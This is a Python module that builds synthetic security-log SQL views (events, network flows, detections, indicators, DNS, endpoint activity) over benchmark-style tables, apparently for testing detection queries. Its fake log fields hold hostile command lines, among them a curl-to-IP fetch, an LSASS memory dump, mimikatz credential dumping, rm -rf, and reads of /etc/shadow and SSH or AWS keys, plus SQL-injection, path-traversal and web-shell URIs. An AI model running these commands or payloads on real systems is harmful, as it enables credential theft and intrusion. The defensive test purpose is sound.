"""Security-shaped views over the given tables.

Every view is one SELECT whose expressions mean the same in Spark SQL and in ANSI SQL with a few
spelling differences; ``Dialect`` holds those. The Spark side runs the text over the parquet
files, the checking side puts it in a WITH clause, so both see identical rows.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession

from wardlake.session import prepare

TABLES = ("region nation customer supplier part orders lineitem events documents embeddings pages "
          "benchmark labels conversations").split()
NOW = "2024-01-31 00:00:00"
NOW_US = 1706659200000000
NOW_S = 1706659200
DAY_US = 86_400_000_000


class Dialect:
    def __init__(self, spark: bool):
        self.spark = spark

    def micros(self, ts: str) -> str:
        return f"unix_micros(CAST({ts} AS TIMESTAMP))" if self.spark else f"epoch_us({ts})"

    def from_micros(self, us: str) -> str:
        return f"timestamp_micros({us})" if self.spark else f"make_timestamp(CAST({us} AS BIGINT))"

    def json(self, col: str, path: str) -> str:
        return f"get_json_object({col}, '{path}')" if self.spark else f"json_extract_string({col}, '{path}')"

    def arr(self, *items: str) -> str:
        return f"array({', '.join(items)})" if self.spark else f"[{', '.join(items)}]"

    def div(self, a: str, b: str) -> str:
        return f"(({a}) DIV ({b}))" if self.spark else f"(({a}) // ({b}))"

    def pick(self, items: list[str], index: str) -> str:
        texts = ", ".join("'" + i.replace("'", "''") + "'" for i in items)
        return f"element_at(array({texts}), CAST(1 + {index} AS INT))" if self.spark else f"([{texts}])[1 + {index}]"

    def rx(self, col: str, pattern: str, group: int) -> str:
        if self.spark:
            return f"regexp_extract({col}, r'{pattern}', {group})"
        return f"regexp_extract({col}, '{pattern}', {group})"


def _s(x: str) -> str:
    return f"CAST({x} AS STRING)"


def _events(d: Dialect) -> str:
    k = f"CAST({d.json('props', '$.k')} AS INT)"
    return f"""
SELECT id, time_us, {d.from_micros('time_us')} AS time, class_uid, class_name,
  CAST(1 + id % 5 AS INT) AS severity_id,
  concat('10.0.0.', {_s('user_id % 250')}) AS src_ip,
  CASE WHEN k % 3 = 0 THEN concat('45.33.32.', {_s('k')}) ELSE concat('192.168.1.', {_s('k')}) END AS dst_ip,
  CAST(CASE k % 7 WHEN 0 THEN 22 WHEN 1 THEN 53 WHEN 2 THEN 80 WHEN 3 THEN 443 WHEN 4 THEN 445 WHEN 5 THEN 3389 ELSE 8443 END AS INT) AS dst_port,
  CASE WHEN id % 17 = 0 THEN NULL ELSE concat('host-', {_s('user_id % 40')}) END AS hostname,
  CASE WHEN id % 19 = 0 THEN NULL ELSE concat('user-', {_s('user_id')}) END AS username,
  CASE id % 3 WHEN 0 THEN 'Wazuh' WHEN 1 THEN 'Zeek' ELSE 'Suricata' END AS source,
  concat(event_type, ' observed with code ', {_s('k')}) AS summary,
  CASE WHEN k % 10 = 0 THEN 'powershell.exe -NoProfile -enc SQBFAFgA'
       WHEN k % 10 = 1 THEN 'C:/Windows/System32/rundll32.exe comsvcs.dll MiniDump lsass.exe'
       WHEN k % 10 = 2 THEN 'sc.exe create updater binPath= C:/tmp/u.exe'
       WHEN k % 10 = 3 THEN 'cmd.exe /c whoami'
       WHEN k % 10 = 4 THEN 'bash -c curl http://45.33.32.9/x | base64 -d'
       ELSE concat('svchost.exe -k netsvcs -p ', {_s('k')}) END AS cmd_line,
  CASE WHEN k % 10 = 0 THEN 'powershell.exe' WHEN k % 10 = 1 THEN 'rundll32.exe' WHEN k % 10 = 2 THEN 'sc.exe'
       WHEN k % 10 = 3 THEN 'cmd.exe' WHEN k % 10 = 4 THEN 'bash' ELSE 'svchost.exe' END AS process_name,
  md5(concat('binary-', {_s('k')})) AS process_hash,
  CASE WHEN k % 20 = 7 THEN concat('svc', {_s('k')}, '.example.com') ELSE NULL END AS domain,
  event_type, user_id, k, value
FROM (SELECT event_id AS id, {d.micros('ts')} AS time_us, user_id, event_type, value, {k} AS k,
        CAST(CASE event_type WHEN 'error' THEN 2001 WHEN 'click' THEN 1007 WHEN 'view' THEN 4002 WHEN 'signup' THEN 3002 ELSE 4001 END AS INT) AS class_uid,
        CASE event_type WHEN 'error' THEN 'Security Finding' WHEN 'click' THEN 'Process Activity' WHEN 'view' THEN 'HTTP Activity' WHEN 'signup' THEN 'Authentication' ELSE 'Network Activity' END AS class_name
      FROM events) e0"""


def _flows(d: Dialect) -> str:
    return f"""
SELECT flow_id, time_us, {d.from_micros('time_us')} AS time, src_ip, dst_ip, src_port, dst_port, protocol, bytes_in, bytes_out, duration_ms, state
FROM (SELECT concat({_s('l_orderkey')}, '-', {_s('l_linenumber')}, '-', {_s('l_partkey')}, '-', {_s('l_suppkey')}, '-', {_s('CAST(round(l_extendedprice * 100) AS BIGINT)')}) AS flow_id,
  CAST(1704067200000000 + ((l_orderkey * 7 + l_partkey * 13 + l_linenumber * 101) % 21600) * 1000000
     + ((l_orderkey * 31 + l_partkey * 17) % 1000) * 1000 + l_suppkey % 1000 AS BIGINT) AS time_us,
  CASE WHEN l_partkey % 11 = 0 THEN concat('45.33.40.', {_s('l_suppkey % 50')}) ELSE concat('10.0.0.', {_s('l_suppkey % 100')}) END AS src_ip,
  CASE WHEN l_partkey % 3 = 0 THEN concat('45.33.32.', {_s('l_partkey % 7')}) ELSE concat('192.168.1.', {_s('l_partkey % 20')}) END AS dst_ip,
  CAST(40000 + l_orderkey % 20000 AS INT) AS src_port,
  CAST(CASE WHEN l_returnflag = 'A' THEN (CASE l_linenumber WHEN 1 THEN 22 WHEN 2 THEN 53 WHEN 3 THEN 80 WHEN 4 THEN 443 WHEN 5 THEN 445 WHEN 6 THEN 3389 ELSE 8443 END)
       ELSE 1 + (l_partkey * 7) % 1024 END AS INT) AS dst_port,
  CASE l_linenumber % 4 WHEN 0 THEN 'UDP' WHEN 3 THEN 'ICMP' ELSE 'TCP' END AS protocol,
  CAST(l_quantity AS BIGINT) * 20 AS bytes_in, CAST(floor(l_extendedprice) AS BIGINT) AS bytes_out,
  CAST(l_linenumber * 400 AS INT) AS duration_ms,
  CASE l_partkey % 5 WHEN 0 THEN 'ESTABLISHED' WHEN 1 THEN 'REJ' WHEN 2 THEN 'S0' WHEN 3 THEN 'SF' ELSE 'RSTO' END AS state
FROM lineitem) f0"""


def _detections(d: Dialect) -> str:
    return f"""
SELECT event_id AS id, time_us, {d.from_micros('time_us')} AS time,
  CASE event_type WHEN 'error' THEN 'critical' WHEN 'purchase' THEN 'high' WHEN 'signup' THEN 'medium' ELSE 'low' END AS severity,
  CASE WHEN k % 23 = 22 THEN NULL ELSE technique_id END AS technique_id,
  concat('Technique ', technique_id) AS technique_name,
  CASE k % 9 WHEN 0 THEN 'Execution' WHEN 1 THEN 'Credential Access' WHEN 2 THEN 'Discovery' WHEN 3 THEN 'Initial Access' WHEN 4 THEN 'Persistence'
             WHEN 5 THEN 'Privilege Escalation' WHEN 6 THEN 'Defense Evasion' WHEN 7 THEN 'Lateral Movement' ELSE 'Command and Control' END AS tactic,
  CASE k % 9 WHEN 0 THEN 'TA0002' WHEN 1 THEN 'TA0006' WHEN 2 THEN 'TA0007' WHEN 3 THEN 'TA0001' WHEN 4 THEN 'TA0003'
             WHEN 5 THEN 'TA0004' WHEN 6 THEN 'TA0005' WHEN 7 THEN 'TA0008' ELSE 'TA0011' END AS tactic_id,
  concat('host-', {_s('user_id % 40')}) AS host, concat('user-', {_s('user_id')}) AS username,
  CASE WHEN k % 31 = 30 THEN NULL ELSE concat('rule-', {_s('k % 10')}) END AS rule_name,
  concat('Rule ', {_s('k % 10')}, ' matched') AS name,
  CASE event_id % 4 WHEN 0 THEN 'active' WHEN 1 THEN 'investigating' WHEN 2 THEN 'resolved' ELSE 'active' END AS status,
  value AS score, k
FROM (SELECT event_id, {d.micros('ts')} AS time_us, user_id, event_type, value, k,
        CASE k % 12 WHEN 0 THEN 'T1059.001' WHEN 1 THEN 'T1003.001' WHEN 2 THEN 'T1082' WHEN 3 THEN 'T1078' WHEN 4 THEN 'T1053.005' WHEN 5 THEN 'T1078.003'
             WHEN 6 THEN 'T1562.001' WHEN 7 THEN 'T1021.002' WHEN 8 THEN 'T1071.001' WHEN 9 THEN 'T1059' WHEN 10 THEN 'T1021.001' ELSE 'T1003' END AS technique_id
      FROM (SELECT *, CAST({d.json('props', '$.k')} AS INT) AS k FROM events) d00) d0"""


def _rules(d: Dialect) -> str:
    tid = ("CASE {x} % 10 WHEN 0 THEN 'T1059.001' WHEN 1 THEN 'T1003.001' WHEN 2 THEN 'T1021.002' WHEN 3 THEN 'T1078' WHEN 4 THEN 'T1053.005' "
           "WHEN 5 THEN 'T1486' WHEN 6 THEN 'T1190' WHEN 7 THEN 'T1041' WHEN 8 THEN 'T1218' ELSE 'T1547' END")
    a, b = tid.format(x="p_partkey"), tid.format(x="p_size")
    return f"""
SELECT p_partkey AS id, concat('Rule ', {_s('p_partkey')}) AS title, p_partkey % 3 <> 0 AS enabled,
  CASE p_size % 4 WHEN 0 THEN 'critical' WHEN 1 THEN 'high' WHEN 2 THEN 'medium' ELSE 'low' END AS level,
  CASE WHEN p_partkey % 13 = 0 THEN NULL WHEN p_partkey % 17 = 0 THEN 'not json' WHEN p_partkey % 19 = 0 THEN '[" "]'
       ELSE concat('["', {a}, '", " ', {b}, ' "]') END AS technique_ids,
  CASE p_partkey % 6 WHEN 0 THEN 'windows' WHEN 1 THEN 'zeek' WHEN 2 THEN 'suricata' WHEN 3 THEN 'linux' ELSE NULL END AS logsource_product,
  CASE p_size % 5 WHEN 0 THEN 'dns' WHEN 1 THEN 'sysmon' WHEN 2 THEN 'security' ELSE NULL END AS logsource_service,
  CASE p_size % 7 WHEN 0 THEN 'process_creation' WHEN 1 THEN 'network_connection' WHEN 2 THEN 'firewall' ELSE NULL END AS logsource_category,
  p_size AS hit_count, CAST(p_partkey % 5 AS INT) AS fp_count,
  CAST(1704067200000000 + (p_partkey * 7919 % 2592000) * 1000000 AS BIGINT) AS created_us
FROM part"""


def _incidents(d: Dialect) -> str:
    created = "CAST(1704067200000000 + (o_orderkey * 104729 % 2592000) * 1000000 AS BIGINT)"
    return f"""
SELECT id, title, severity, status, created_us, ttd_seconds, ttr_seconds, hosts, tactic_ids, detection_ids,
  CASE WHEN status IN ('resolved', 'closed') THEN created_us + ttr_seconds * 1000000 ELSE NULL END AS closed_us, assigned_to
FROM (SELECT o_orderkey AS id, concat('Incident ', {_s('o_orderkey')}) AS title,
  CASE WHEN o_orderpriority = '1-URGENT' THEN 'critical' WHEN o_orderpriority = '2-HIGH' THEN 'high' WHEN o_orderpriority = '3-MEDIUM' THEN 'medium' ELSE 'low' END AS severity,
  CASE WHEN o_orderstatus = 'F' THEN 'closed' WHEN o_orderkey % 5 = 0 THEN 'new' WHEN o_orderkey % 5 = 1 THEN 'investigating' WHEN o_orderkey % 5 = 2 THEN 'contained' ELSE 'resolved' END AS status,
  {created} AS created_us,
  CAST(floor(o_totalprice) AS BIGINT) % 7200 AS ttd_seconds, CAST(floor(o_totalprice) AS BIGINT) % 172800 AS ttr_seconds,
  {d.arr(f"concat('host-', {_s('o_custkey % 40')})", f"concat('host-', {_s('o_custkey % 7')})")} AS hosts,
  {d.arr("CASE o_custkey % 3 WHEN 0 THEN 'Execution' WHEN 1 THEN 'Discovery' ELSE 'Credential Access' END")} AS tactic_ids,
  {d.arr('o_orderkey * 3 % 20000', 'o_orderkey * 7 % 20000', 'o_orderkey * 11 % 20000')} AS detection_ids,
  CASE WHEN o_custkey % 4 = 0 THEN NULL ELSE concat('analyst-', {_s('o_custkey % 5')}) END AS assigned_to
FROM orders) i0"""


def _assets(d: Dialect) -> str:
    return f"""
SELECT c_custkey AS id, concat('host-', {_s('c_custkey')}) AS hostname,
  {d.arr(f"concat('10.0.0.', {_s('c_custkey % 250')})", f"concat('10.1.', {_s('c_custkey % 200')}, '.7')")} AS ip_addresses,
  CAST(1 + c_custkey % 5 AS INT) AS criticality,
  CASE c_mktsegment WHEN 'BUILDING' THEN 'server' WHEN 'MACHINERY' THEN 'ot' WHEN 'HOUSEHOLD' THEN 'workstation' ELSE 'network' END AS asset_type,
  CASE c_nationkey % 3 WHEN 0 THEN 'windows' WHEN 1 THEN 'linux' ELSE NULL END AS os_family,
  concat('team-', {_s('c_nationkey % 6')}) AS department, c_acctbal > 0 AS is_active,
  CAST(c_custkey % 9 AS BIGINT) AS detection_count,
  CAST(1704067200000000 + (c_custkey * 15485863 % 2592000) * 1000000 AS BIGINT) AS last_seen_us
FROM customer"""


def _artifacts(d: Dialect) -> str:
    sha = "sha2({}, 256)" if d.spark else "sha256({})"
    return f"""
SELECT *, CASE WHEN k % 20 = 9 THEN concat('http://svc', {_s('k')}, '.example.com/get') END AS url,
  CASE WHEN k % 6 = 0 THEN concat('2a00:', {_s('k')}, '::', {_s('user_id % 10')}) END AS peer_ip,
  CASE WHEN k % 4 = 1 THEN {sha.format(f"concat('image-', {_s('k')})")} END AS hash_sha256
FROM v_events"""


def _iocs(d: Dialect) -> str:
    host = d.rx("url", "^https?://([^/:?#]+)", 1)
    sha = "sha2({}, 256)" if d.spark else "sha256({})"
    return f"""
SELECT id, ioc_type, value, CASE WHEN confidence >= 76 THEN 'critical' WHEN confidence >= 51 THEN 'high' WHEN confidence >= 26 THEN 'medium' ELSE 'low' END AS severity,
  CAST(confidence AS INT) AS confidence, feed, is_active, created_us, expires_us, hit_count, last_hit_us
FROM (
  SELECT s_suppkey AS id, 'ip' AS ioc_type, CASE WHEN s_suppkey % 2 = 0 THEN concat('45.33.32.', {_s('s_suppkey')}) ELSE concat('192.168.1.', {_s('s_suppkey')}) END AS value,
    s_suppkey * 7 % 101 AS confidence, concat('feed-', {_s('s_nationkey % 4')}) AS feed, s_suppkey % 5 <> 0 AS is_active,
    CAST(1690000000000000 + s_suppkey * 86400000000 AS BIGINT) AS created_us,
    CASE WHEN s_suppkey % 3 = 0 THEN NULL ELSE CAST(1706659200000000 + (s_suppkey - 50) * 86400000000 AS BIGINT) END AS expires_us,
    s_suppkey % 11 AS hit_count, CASE WHEN s_suppkey % 4 = 0 THEN CAST(1700000000000000 AS BIGINT) ELSE NULL END AS last_hit_us
  FROM supplier
  UNION ALL
  SELECT 1000000 + page_id, 'domain', CASE WHEN page_id % 2 = 0 THEN concat('svc', {_s('page_id % 100')}, '.example.com') ELSE {host} END,
    page_id * 13 % 101, 'web-feed', page_id % 7 <> 0, CAST(1700000000000000 + page_id * 3600000000 AS BIGINT),
    CASE WHEN page_id % 2 = 0 THEN CAST(1706659200000000 + (page_id - 100) * 3600000000 AS BIGINT) ELSE NULL END, page_id % 3, NULL
  FROM pages
  UNION ALL
  SELECT 2000000 + page_id, 'hash_md5', md5(concat('binary-', {_s('page_id')})),
    page_id * 17 % 101, 'web-feed', page_id % 7 <> 0, CAST(1700000000000000 + page_id * 3600000000 AS BIGINT), NULL, page_id % 3, NULL
  FROM pages
  UNION ALL
  SELECT 3000000 + page_id, 'hash_sha256', {sha.format(f"concat('image-', {_s('page_id')})")},
    page_id * 19 % 101, 'web-feed', page_id % 7 <> 0, CAST(1700000000000000 + page_id * 3600000000 AS BIGINT), NULL, page_id % 3, NULL
  FROM pages
  UNION ALL
  SELECT 4000000 + page_id, 'url', concat('http://svc', {_s('page_id')}, '.example.com/get'),
    page_id * 23 % 101, 'web-feed', page_id % 7 <> 0, CAST(1700000000000000 + page_id * 3600000000 AS BIGINT), NULL, page_id % 3, NULL
  FROM pages) c0"""


def _http(d: Dialect) -> str:
    return f"""
SELECT page_id AS id, {d.rx('url', '^https?://([^/:?#]+)', 1)} AS host,
  concat({d.rx('url', '^https?://[^/]+(/[^#]*)', 1)}, CASE page_id % 9 WHEN 0 THEN '?id=1;ls' WHEN 1 THEN '?q=1+union+select+2' WHEN 2 THEN '/../etc/passwd' WHEN 3 THEN '?f=a%00b' WHEN 4 THEN '/shell.php?cmd=id' ELSE '' END) AS uri,
  CASE page_id % 6 WHEN 0 THEN NULL WHEN 1 THEN 'sqlmap/1.7' WHEN 2 THEN '' ELSE 'Mozilla/5.0' END AS user_agent,
  CASE page_id % 4 WHEN 0 THEN 'POST' ELSE 'GET' END AS method,
  CAST(length(html) AS BIGINT) * CASE WHEN page_id % 3 = 0 THEN 5000 ELSE 1 END AS content_length,
  CASE page_id % 5 WHEN 0 THEN 'text/html' WHEN 1 THEN 'video/mp4' WHEN 2 THEN 'application/zip' WHEN 3 THEN NULL ELSE 'application/json' END AS content_type,
  CASE page_id % 7 WHEN 0 THEN 'Apache/1.3.42' WHEN 1 THEN 'Microsoft-IIS/6.0' WHEN 2 THEN NULL ELSE 'nginx/1.25' END AS server,
  CASE page_id % 8 WHEN 0 THEN '' WHEN 1 THEN '45.33.32.1' WHEN 2 THEN 'fe80::1' WHEN 3 THEN concat('cdn.', {d.rx('url', '^https?://([^/:?#]+)', 1)}) ELSE {d.rx('url', '^https?://([^/:?#]+)', 1)} END AS server_name,
  length(url) AS url_length, url
FROM pages"""


def _dns(d: Dialect) -> str:
    h = f"md5(concat('n', {_s('id')}))"
    return f"""
SELECT id, time_us, src_ip,
  CASE WHEN k % 11 = 0 THEN concat(substr({h}, 1, 14), '.net')
       WHEN k % 11 = 1 THEN concat({h}, substr({h}, 1, 12), '.tunnel.example.com')
       WHEN k % 11 = 2 THEN concat(substr({h}, 1, 9), '.', substr({h}, 10, 9), '.', substr({h}, 19, 9), '.corp.example.org')
       WHEN k % 11 = 3 THEN 'a.b.c.d.e.f.g.h.i.j.example.net'
       WHEN k % 11 = 4 THEN concat('cdn', {_s('k')}, '.cloudfront.net')
       WHEN k % 11 = 5 THEN concat(substr('bcdfghjklmnpqrstvwxz', 1 + k % 6, 12), {_s('k')}, '.biz')
       WHEN k % 11 = 6 THEN concat({h}, '-', {h}, '-', {h}, '-', {h}, '.example.com')
       WHEN k % 11 = 7 THEN concat(substr('qwjzkx7v2p9bt4hd', 1, 11 + k % 5), substr({h}, 1, 3), '.shop')
       ELSE concat('www.portal', {_s('k % 4')}, '.com') END AS query,
  CASE k % 6 WHEN 0 THEN 'TXT' WHEN 1 THEN 'NULL' WHEN 2 THEN 'ANY' ELSE 'A' END AS qtype
FROM v_events"""


def _suppressions(d: Dialect) -> str:
    return f"""
SELECT s_suppkey AS id,
  CASE WHEN s_suppkey % 4 = 0 THEN concat('rule-', {_s('s_suppkey % 10')}) ELSE NULL END AS rule_id,
  CASE WHEN s_suppkey % 4 IN (0, 1) THEN concat('HOST-', {_s('s_suppkey % 40')}, CASE WHEN s_suppkey % 8 = 0 THEN '*' ELSE '' END) WHEN s_suppkey % 4 = 2 THEN 'host-?' ELSE NULL END AS host,
  CASE WHEN s_suppkey % 4 = 2 THEN (CASE s_suppkey % 3 WHEN 0 THEN 'T1059.001' WHEN 1 THEN 'T1082' ELSE 'T1078' END) ELSE NULL END AS technique_id,
  CASE WHEN s_suppkey % 4 = 3 THEN 'lateral movement' ELSE NULL END AS tactic,
  CASE WHEN s_suppkey % 4 IN (1, 3) THEN 'LOW' ELSE NULL END AS severity,
  s_suppkey % 5 <> 0 AS is_active,
  CASE WHEN s_suppkey % 3 = 0 THEN CAST(1706659200000000 + (s_suppkey - 50) * 86400000000 AS BIGINT) ELSE NULL END AS expires_us,
  s_suppkey % 13 AS hit_count
FROM supplier"""


def _geo(d: Dialect) -> str:
    return f"""
SELECT n_nationkey AS id, concat('45.33.32.', {_s('n_nationkey * 8')}, '/29') AS network, n_name AS country,
  concat('N', {_s('n_nationkey')}) AS country_code, concat('City ', {_s('n_regionkey')}) AS city
FROM nation WHERE n_nationkey % 4 <> 3
UNION ALL
SELECT 1000 + n_nationkey, concat('2a00:', {_s('n_nationkey')}, '::/32'), n_name, concat('N', {_s('n_nationkey')}), concat('City ', {_s('n_regionkey')}) FROM nation"""


# per nation in turn: no rules, then one or more rules of each kind, broken ones included; N stands for the nation
ROUTING = [
    None,
    '[{"field":"host","operator":"eq","value":"HOST-N"}]',
    '[{"field":"tactic","operator":"contains","value":"Access"}]',
    '[{"field":"technique_id","operator":"in","value":["t1078","T1021.002"]},{"field":"host","operator":"eq","value":"host-N"}]',
    '[{"field":"rule_name","operator":"regex","value":"^RULE-[1-3]$"}]',
    '[{"field":"severity","operator":"ne","value":"Medium"}]',
    '[{"field":"host","operator":"regex","value":"(["},{"field":"colour","operator":"ne","value":"x"},{"field":"technique_id","operator":"in","value":"T1078"}]',
    '[{"field":"technique_id","operator":"ne","value":"t1003"}]',
]


def _channels(d: Dialect) -> str:
    rules = " ".join(f"WHEN {i} THEN replace('{r}', 'N\"', concat({_s('n_nationkey')}, '\"'))" for i, r in enumerate(ROUTING) if r)
    if d.spark:  # the names of views are filled in by format
        rules = rules.replace("{", "{{").replace("}", "}}")
    return f"""
SELECT n_nationkey AS id, concat('channel-', {_s('n_nationkey')}) AS name, n_nationkey % 5 <> 0 AS enabled,
  CASE n_nationkey % 4 WHEN 0 THEN 'critical' WHEN 1 THEN 'high' WHEN 2 THEN 'medium' ELSE 'low' END AS min_severity,
  CASE n_nationkey % {len(ROUTING)} {rules} END AS routing_rules
FROM nation"""


def _agents(d: Dialect) -> str:
    return f"""
SELECT s_suppkey AS id, s_name AS name, CASE WHEN s_suppkey % 10 = 0 THEN NULL ELSE CAST(1706659200000000 - (s_suppkey * 17 % 1200) * 1000000 AS BIGINT) END AS heartbeat_us,
  CASE s_suppkey % 4 WHEN 0 THEN 'offline' WHEN 1 THEN 'degraded' ELSE 'online' END AS status
FROM supplier"""


def _accounts(d: Dialect) -> str:
    return f"""
SELECT c_custkey AS id, c_name AS name, c_acctbal > 1000 AS is_active,
  CASE WHEN c_custkey % 6 = 0 THEN NULL ELSE CAST(1706659200000000 - (c_custkey % 200) * 86400000000 AS BIGINT) END AS last_login_us
FROM customer"""


PROCESS_NAMES = ("bash python3 node perl cron crontab at systemctl insmod sudo su uname whoami ps ls ip nmap ss getent id service dpkg mount chage finger "
                 "wget ssh nc procdump tcpdump base64 chmod rm shred history touch tar find openssl gpg iptables userdel passwd vgremove lvremove anydesk "
                 "ruby nginx java mimikatz.exe").split()
PROCESS_ARGS = ["", " stop sshd", " disable auditd ", " -d payload", " --decode x", " -rf /tmp/x", " -c 'id'", " -e code", " enc -aes256 ", " --encrypt f", " -t 2020 f",
                " -exec rm", " -F", " -l root ", " snapshot", " group", " list-units", " sekurlsa::logonpasswords", " | base64"]
FILE_PATHS = ["/etc/shadow", "/etc/passwd", "/etc/shadow-", "/etc/sudoers.d/x", "/home/a/.ssh/authorized_keys", "/etc/cron.d/job", "/var/spool/at/1", "/etc/systemd/system/x.service",
              "/etc/rc.local", "/root/.bashrc", "/etc/profile.d/a.sh", "/tmp/tool", "/dev/shm/x", "/usr/bin/ls", "/etc/ld.so.preload", "/usr/lib/libx.so", "/var/log/auth.log",
              "/root/.bash_history", "/srv/app/.env", "/home/a/.ssh/id_rsa", "/var/www/html/s.php", "/etc/hosts", "/boot/vmlinuz", "/var/backups/db.bak", "/opt/app/readme.txt",
              "/etc/ssh/sshd_config", "/var/spool/cron/root", "/home/a/.aws/credentials", "/srv/http/x.jsp", "/home/b/notes.log"]
REGISTRY_KEYS = ["HKLM/Software/Microsoft/Windows/CurrentVersion/Run", "HKLM/SYSTEM/CurrentControlSet/Services/x", "HKLM/Software/Image File Execution Options/a.exe",
                 "HKLM/SYSTEM/KnownDLLs", "HKLM/SYSTEM/CurrentControlSet/Control/Lsa", "HKLM/Software/Winlogon", "HKCU/Software/App"]
REMOTE_PORTS = ["22", "23", "25", "53", "80", "443", "445", "3389", "5901", "9050", "6667", "4444", "21", "5938", "8443", "40000", "587", "31337"]


def _endpoint(d: Dialect) -> str:
    proc, arg = d.pick(PROCESS_NAMES, f"id % {len(PROCESS_NAMES)}"), d.pick(PROCESS_ARGS, f"k % {len(PROCESS_ARGS)}")
    return f"""
SELECT id, time_us, name, concat(name, arg) AS cmd_line, CASE k % 6 WHEN 0 THEN concat('/tmp/', name) WHEN 1 THEN concat('/dev/shm/', name) WHEN 2 THEN NULL ELSE concat('/usr/bin/', name) END AS exe_path,
  CAST(k % 3 AS INT) AS uid, CAST(k % 4 AS INT) AS ppid, path, CASE k % 4 WHEN 0 THEN 'Create' WHEN 1 THEN 'Modify' WHEN 2 THEN 'Delete' ELSE 'Read' END AS action,
  CAST(port AS INT) AS remote_port, CASE k % 3 WHEN 0 THEN 'ESTABLISHED' WHEN 1 THEN 'LISTEN' ELSE 'SYN_SENT' END AS state,
  CASE k % 6 WHEN 0 THEN 'password' WHEN 1 THEN 'publickey' WHEN 2 THEN 'sudo' WHEN 3 THEN 'su' WHEN 4 THEN 'unknown' ELSE 'session' END AS auth_method,
  CASE id % 3 WHEN 0 THEN 'Failure' ELSE 'Success' END AS status, CASE k % 5 WHEN 0 THEN 'Logoff' ELSE 'Logon' END AS outcome,
  CASE id % 2 WHEN 0 THEN src_ip ELSE NULL END AS source_ip, reg_key
FROM (SELECT id, time_us, k, src_ip, {proc} AS name, {arg} AS arg, {d.pick(FILE_PATHS, f"user_id % {len(FILE_PATHS)}")} AS path, {d.pick(REMOTE_PORTS, f"user_id % {len(REMOTE_PORTS)}")} AS port,
       {d.pick(REGISTRY_KEYS, f"id % {len(REGISTRY_KEYS)}")} AS reg_key FROM v_events) p0"""


VIEW_BUILDERS = {
    "v_events": _events, "v_flows": _flows, "v_detections": _detections, "v_rules": _rules, "v_incidents": _incidents,
    "v_assets": _assets, "v_iocs": _iocs, "v_artifacts": _artifacts, "v_http": _http, "v_dns": _dns, "v_suppressions": _suppressions,
    "v_endpoint": _endpoint, "v_geo": _geo, "v_channels": _channels, "v_agents": _agents, "v_accounts": _accounts,
}
_WORD = re.compile(r"\bv_[a-z]+\b")


class Lake:
    """The given tables and the views over them, for one directory."""

    def __init__(self, spark: SparkSession, sf_dir: str):
        self.spark = prepare(spark)
        self.dir = str(sf_dir).rstrip("/")

    def table(self, name: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.dir}/{name}.parquet")

    def view(self, name: str) -> DataFrame:
        return self.sql(f"SELECT * FROM {name}")

    def sql(self, text: str) -> DataFrame:
        """Run SQL over tables and views; the names are passed as DataFrames, no catalogue is touched."""
        refs: dict[str, DataFrame] = {}
        body = text
        for name in dict.fromkeys(_WORD.findall(text)):
            if name in VIEW_BUILDERS:
                refs[name] = self.sql(VIEW_BUILDERS[name](Dialect(True)))
                body = re.sub(rf"\b{name}\b", "{" + name + "}", body)
        for name in TABLES:
            found = re.compile(rf"\b(FROM|JOIN)\s+{name}\b")
            if found.search(body):
                refs[name] = self.table(name)
                body = found.sub(r"\1 {" + name + "}", body)
        return self.spark.sql(body, **refs)

    def __getattr__(self, name: str) -> DataFrame:
        if "v_" + name in VIEW_BUILDERS:
            return self.view("v_" + name)
        raise AttributeError(name)


def with_views(body: str) -> str:
    """Prefix a checking query with the views it names."""
    needed: list[str] = []

    def visit(text: str) -> None:
        for name in dict.fromkeys(_WORD.findall(text)):
            if name in VIEW_BUILDERS and name not in needed:
                visit(VIEW_BUILDERS[name](Dialect(False)))
                needed.append(name)

    visit(body)
    ctes = [f"{n} AS ({VIEW_BUILDERS[n](Dialect(False))})" for n in needed]
    body = body.strip()
    recursive = False
    head = re.match(r"(?is)^WITH\s+(RECURSIVE\s+)?", body)
    if head:
        recursive = bool(head.group(1))
        ctes.append(body[head.end():])
        text = ",\n".join(ctes)
    else:
        text = ",\n".join(ctes) + ("\n" if ctes else "") + body
        if not ctes:
            return body
    return ("WITH RECURSIVE " if recursive else "WITH ") + text
